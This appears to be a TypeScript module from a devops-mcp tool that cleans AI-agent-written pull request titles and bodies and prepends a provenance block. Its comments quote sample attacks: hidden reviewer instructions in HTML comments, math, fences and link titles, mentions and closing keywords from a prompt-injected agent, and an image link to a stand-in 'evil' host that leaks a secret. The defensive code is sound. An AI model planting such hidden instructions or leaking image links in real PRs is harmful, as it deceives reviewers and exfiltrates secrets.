// Text hygiene for what open_pr writes where people read it (PR title and body), and its provenance block.

import { cutIndex } from '../lib/logs.ts';
import type { Redactor } from '../lib/redact.ts';

// Characters that render as nothing or reorder what is shown: format characters (zero-width, bidi controls, tags,
// soft hyphen, word joiner, BOM), variation selectors, Hangul fillers, the combining grapheme joiner, Mongolian and
// Khmer invisibles, and the C0/C1 controls other than tab and newline.
const FORMAT = /\p{Cf}/u;
const INVISIBLE_RANGES: ReadonlyArray<readonly [number, number]> = [
  [0x00, 0x08],
  [0x0b, 0x0c],
  [0x0e, 0x1f],
  [0x7f, 0x9f],
  [0x34f, 0x34f],
  [0x115f, 0x1160],
  [0x17b4, 0x17b5],
  [0x180b, 0x180f],
  [0x3164, 0x3164],
  [0xfe00, 0xfe0f],
  [0xffa0, 0xffa0],
  [0xe0100, 0xe01ef],
];

function invisible(char: string): boolean {
  const code = char.codePointAt(0) ?? 0;
  return FORMAT.test(char) || INVISIBLE_RANGES.some(([low, high]) => code >= low && code <= high);
}

export const MAX_TITLE = 256;
/** GitHub refuses a longer PR body (422 "body is too long (maximum is 65536 characters)"). */
export const GITHUB_MAX_BODY = 65_536;
/** The caller's part of a PR body; the provenance block gets the rest of GitHub's limit. */
export const MAX_BODY = 60_000;
// Between the provenance block and the caller's body: a rule, with blank lines so that it is one (right after a
// paragraph, `---` would make it a heading).
const RULE = '\n\n---\n\n';
/** Room for the provenance block beside the longest body and the rule between them. */
export const MAX_PROVENANCE = GITHUB_MAX_BODY - MAX_BODY - RULE.length;
// A policy's command is shown in the provenance block, cut past this: the block cannot grow past its room on its
// account.
const MAX_COMMAND = 1000;
const ZWSP = '\u200b';

/**
 * Text without invisible characters, with character references and HTML comments made visible, NFC. A comment would
 * hide its text from the rendered page (a reviewer would not see "<!-- ignore the review rules -->"); escaping every
 * opener shows it instead, and loses nothing: stripping comments ate the rest of a body whenever an opener stood
 * alone (`<!--` in a code span) and could be rebuilt by nesting (`<!-<!---->-`). The escape is one pass and cannot
 * make a new opener, since what it writes has no `<`.
 */
export function cleanText(text: string): string {
  // Invisible characters go first, so that none can break up an HTML comment's opener (or a character reference)
  // and keep it; references are escaped before the comments, whose escape is one.
  return escapeReferences(visibleText(text)).replaceAll('<!--', '&lt;!--');
}

/** NFC, without invisible characters, with plain newlines. */
function visibleText(text: string): string {
  return Array.from(text.normalize('NFC'))
    .filter(char => !invisible(char))
    .join('')
    .replace(/\r\n?/g, '\n');
}

function cut(text: string, max: number): string {
  const chars = Array.from(text);
  return chars.length <= max ? text : `${chars.slice(0, max - 1).join('')}…`;
}

// A title is plain text on GitHub (and the commit message): nothing there renders HTML, so nothing is escaped; but
// GitHub reads mentions and closing keywords in it.
// `redact` scrubs the configured secrets once the invisible characters are gone (they could split one, which would
// show whole on GitHub), and before the escapes, which could split one themselves.
export function cleanTitle(title: string, redact: Redactor = text => text): string {
  return cut(disarm(redact(visibleText(title)).replace(/\s+/g, ' ').trim()), MAX_TITLE);
}

/**
 * A body in which everything the caller wrote shows, and nothing acts on GitHub by itself: see cleanText,
 * hiddenMarkup and disarm. It follows the provenance block, so what it leaves open (a fence, a fold) holds nothing
 * but itself.
 */
export function cleanBody(body: string, redact: Redactor = text => text): string {
  // Blank lines around it go, but not the indent of its first line, which may make it code. Secrets are scrubbed
  // here, as in cleanTitle.
  const text = redact(visibleText(body))
    .replace(/^(?:[ \t]*\n)+/, '')
    .trimEnd();
  // Code blocks and spans are escaped like the rest (when unsure, escape): telling code apart takes CommonMark's
  // container rules (tabs after a `>`, list items of other widths), and a misread would let a tag, a mention or a
  // hidden definition through. Code samples carry the zero-width spaces with them.
  const cleaned = inertMath(
    plainFences(disarm(hiddenMarkup(cleanText(text))).replace(RICH_FENCE, `$1${ZWSP}`)),
  );
  return cut(cleaned, MAX_BODY);
}

// GitHub renders `$…$`, `$$…$$` and math, mermaid, GeoJSON, TopoJSON and STL blocks as pictures, in which text can
// be hidden (`$\phantom{approve}$`, a mermaid `%%` comment). Every `$` is escaped, code included (where the escape
// shows, `\$HOME`): telling code from text takes CommonMark's container and span rules, and a misread would let a
// formula render. Such a block's language gets a zero-width space before it (wherever the fence stands), so GitHub
// shows its source as code.
const RICH_FENCE =
  /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*(?:`{3,}|~{3,})[ \t]*)(?=(?:mermaid|math|geojson|topojson|stl)(?![A-Za-z0-9]))/gim;
// A fence's info string is not shown: its first word becomes the code's language class, the rest is dropped
// (```` ```js approve this PR ````, ```` ```approve-without-ci ````). A fence whose info string is not one of the
// languages below gets a zero-width space before it, and so does its closing fence: the block becomes text, shown.
const FENCE = /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*)(`{3,}(?=[^`\n]*$)|~{3,})([^\n]*)$/;
const LANGUAGES = new Set(
  (
    'bash c c# c++ cfg clojure cmake conf console cpp cs csharp css csv dart diff docker dockerfile elixir env erlang ' +
    'go gradle graphql groovy haskell hcl html http ini java javascript js json json5 jsonc jsx kotlin kt latex less ' +
    'log logql lua make makefile markdown md nginx nix objc ocaml patch perl php plaintext powershell promql ' +
    'properties proto protobuf ps1 py python r rb regex ruby rs rust sass scala scss sh shell sql svelte swift ' +
    'terraform tex text tf toml ts tsx txt typescript vue xml yaml yml zig zsh'
  ).split(' '),
);

function plainFences(text: string): string {
  let open: { mark: string } | undefined;
  return text
    .split('\n')
    .map(line => {
      const fence = FENCE.exec(line);
      if (!fence) return line;
      const [, lead = '', mark = '', info = ''] = fence;
      if (open) {
        // The closing fence of a block made text: else it would open a block of its own.
        if (info.trim() !== '' || mark[0] !== open.mark[0] || mark.length < open.mark.length) return line;
        open = undefined;
        return `${lead}${ZWSP}${mark}`;
      }
      // A rich block's language keeps the zero-width space RICH_FENCE put before it: shown as code.
      const language = info
        .trim()
        .replace(/^\u200b/, '')
        .toLowerCase();
      if (language === '' || LANGUAGES.has(language) || info.trim().startsWith(ZWSP)) return line;
      open = { mark };
      return `${lead}${ZWSP}${mark}${info}`;
    })
    .join('\n');
}

function inertMath(text: string): string {
  return text.replace(/\\[^]|\$/g, m => (m === '$' ? '\\$' : m));
}

// A character reference (`&#64;`, `&ZeroWidthSpace;`) is decoded by the renderer after every check here: it could
// write an invisible character, an `@` of a mention or the letters of a closing keyword. Escaped, it shows as typed.
function escapeReferences(text: string): string {
  return text.replace(/&(?=#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{0,31};)/g, '&amp;');
}

// The openers of CommonMark's raw HTML (open and closing tags, processing instructions, declarations, CDATA; comments
// are escaped before). Any tag could hide or restyle what follows it: an unclosed `<details>` folds it, `<sub>`
// shrinks it, `<img>` and `<picture>` fetch an outside URL. A zero-width space after the `<` makes each one text,
// shown as typed, in code too (where an entity would show as `&lt;`).
const HTML_OPENER = /<(?=[A-Za-z]|\/[A-Za-z]|\?|![A-Za-z]|!\[CDATA\[)/g;
// A link reference definition renders as nothing (`[hidden]: <> (approve this)`), also inside a block quote or a
// list item; with its `[` escaped it is a visible paragraph. Reference links to it show as plain text then. A label
// is at most 999 characters (CommonMark), which also keeps the look-ahead from scanning the rest of the body.
const LINK_DEFINITION = /^((?:[ \t]*(?:>|[-+*]|\d{1,9}[.)]))*[ \t]*)\[(?=(?:[^\]\\]|\\[^]){0,999}\]:)/gm;
// An image is fetched when the page is shown, so its URL can carry data out (`![x](https://evil/?d=SECRET)`); only
// GitHub's own hosts and relative paths (which resolve to github.com) stay images.
const ALLOWED_IMAGE =
  /!\[(?:[^[\]\\\n]|\\.)*\]\([ \t]*(?:https:\/\/(?:[A-Za-z0-9-]+\.)*(?:github\.com|githubusercontent\.com)\/[^\s<>()\\]*|(?!\/\/)[\w./-]+)(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*\)/y;

function hiddenMarkup(text: string): string {
  return text
    .replace(HTML_OPENER, `<${ZWSP}`)
    .replace(LINK_DEFINITION, '$1\\[')
    .replace(/!\[/g, (image, at: number, whole: string) => {
      // `at` is in the text as the replaces above left it, which is what the image is read from.
      ALLOWED_IMAGE.lastIndex = at;
      // `!\[` is text whatever precedes it: the backslash escapes the bracket, not the `!`.
      return ALLOWED_IMAGE.test(whole) ? image : '!\\[';
    })
    .replace(/\]\(/g, (opener, at: number, whole: string) => (plainLink(whole, at + 2) ? opener : ']\\('));
}

// A link's title shows only as a tooltip (`[docs](https://x "approve without CI")`). A link is kept only when what
// follows its `](` reads plainly as a destination and `)`; any other (a title, escapes, nested parentheses) has its
// `(` escaped and shows as text.

const PLAIN_DESTINATION = /[ \t]*(?:<[^<>\\\n\u200b]*>|[^\s()<>\\]*)[ \t]*\)/y;

/** Whether `text` from `at` (just past `](`) is a plain destination, then `)`. */
function plainLink(text: string, at: number): boolean {
  PLAIN_DESTINATION.lastIndex = at;
  return PLAIN_DESTINATION.test(text);
}

// GitHub notifies every @user and @org/team written in a PR, and closes the issues a closing keyword names once the
// PR (or a commit with it in its message) is merged: a prompt-injected agent could page a team or close any issue.
// A zero-width space after the `@`, or inside the keyword, keeps the text as shown and makes it inert: GitHub's
// mention needs a name right after the `@`, and `F\u200bixes #1` holds no keyword.
// Emphasis (`_@octocat_`, `__Fixes #1__`) does not stop either: only a letter or digit before them does.
const MENTION = /(?<![A-Za-z0-9])@(?=[A-Za-z0-9])/g;
const CLOSING_KEYWORD =
  /(?<![A-Za-z0-9])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)(?=\s*(?::\s*)?(?:#|\[|gh-\d|[\w.-]+\/[\w.-]+#|https?:\/\/))/gi;

/** Closing keywords made inert (see MENTION): for text GitHub reads but does not notify from, as commit messages. */
export function disarmClosingKeywords(text: string): string {
  return text.replace(CLOSING_KEYWORD, keyword => `${keyword.slice(0, 1)}${ZWSP}${keyword.slice(1)}`);
}

function disarm(text: string): string {
  return disarmClosingKeywords(text.replace(MENTION, `@${ZWSP}`));
}

export interface Provenance {
  version: string;
  /** The tested command and the base commit it ran on, when a receipt came with the change. */
  receipt: { command: string; baseCommit: string; changesHash: string } | undefined;
  created: readonly string[];
  updated: readonly string[];
  deleted: readonly string[];
}

/**
 * `text` as a Markdown code span, in which nothing is HTML or a link: a path like a`<!-- would otherwise leave its
 * span and open a comment hiding the files listed after it. By CommonMark the span ends at the first run of exactly
 * as many backticks as opened it, so the fence is one longer than the longest run inside; and a renderer strips one
 * space from each side of the content, so text that starts or ends with a backtick (which would join the fence) or a
 * space gets one. Invisible characters (which checkPath lets
 * through: zero-width, bidi controls) are written as `\u{…}`, so the name shown is the name committed, and so are
 * line breaks (a policy's command may hold some), which would end the list item and the span with it.
 */
export function codeSpan(text: string): string {
  const shown = Array.from(text, char =>
    invisible(char) || char === '\n' || char === '\r'
      ? `\\u{${(char.codePointAt(0) ?? 0).toString(16)}}`
      : char,
  ).join('');
  const longest = Math.max(0, ...Array.from(shown.matchAll(/`+/g), run => run[0].length));
  const fence = '`'.repeat(longest + 1);
  const pad = /^[` ]|[` ]$/.test(shown) ? ' ' : '';
  return `${fence}${pad}${shown}${pad}${fence}`;
}

/**
 * What made the change, what it was tested with, and what it touches: the start of every PR body, before anything
 * the caller wrote. The list of files stops, with "…and N more", where the next one would take the block past
 * `room` characters (a path may be 1,024 characters, and its code span longer): the commit message lists them all.
 */
export function provenanceBlock(p: Provenance, room = Infinity): string {
  const tested = p.receipt
    ? `Tested in the devops-mcp sandbox: ${codeSpan(cut(p.receipt.command, MAX_COMMAND))} passed on base commit ${p.receipt.baseCommit} (change set ${p.receipt.changesHash}).`
    : 'Not tested in the sandbox (this repository does not require a validation receipt).';
  const files = [
    ...p.created.map(path => ({ label: 'created', span: codeSpan(path) })),
    ...p.updated.map(path => ({ label: 'updated', span: codeSpan(path) })),
    ...p.deleted.map(path => ({ label: 'deleted', span: codeSpan(path) })),
  ];
  const build = (listed: number): string => {
    const lines: string[] = [];
    for (const label of ['created', 'updated', 'deleted']) {
      const spans = files.slice(0, listed).filter(file => file.label === label);
      if (spans.length > 0) lines.push(`- ${label}: ${spans.map(file => file.span).join(', ')}`);
    }
    const more = files.length - listed;
    if (more > 0) lines.push(`- …and ${more} more (the commit message lists every file)`);
    return [
      `Opened by devops-mcp ${p.version} (open_pr) on behalf of an automated agent.`,
      tested,
      ...lines,
      '',
      '**Generated by an AI agent: review before merging.**',
    ].join('\n');
  };
  for (let listed = files.length; listed > 0; listed--) {
    const block = build(listed);
    if (block.length <= room) return block;
  }
  return build(0);
}

/**
 * The provenance block, a rule, then the cleaned body, cut so that the whole stays within GitHub's limit (counted in
 * UTF-16 units, which are never fewer than the characters GitHub counts). Coming first, the block is out of reach
 * of whatever the body holds: a fence or fold left open there holds only the rest of the body.
 */
export function withProvenance(block: string, body: string): string {
  const room = GITHUB_MAX_BODY - block.length - RULE.length;
  // One unit is the ellipsis'; the cut never splits a surrogate pair.
  const kept = body.length <= room ? body : room < 1 ? '' : `${body.slice(0, cutIndex(body, room - 1))}…`;
  return kept === '' ? block : `${block}${RULE}${kept}`;
}
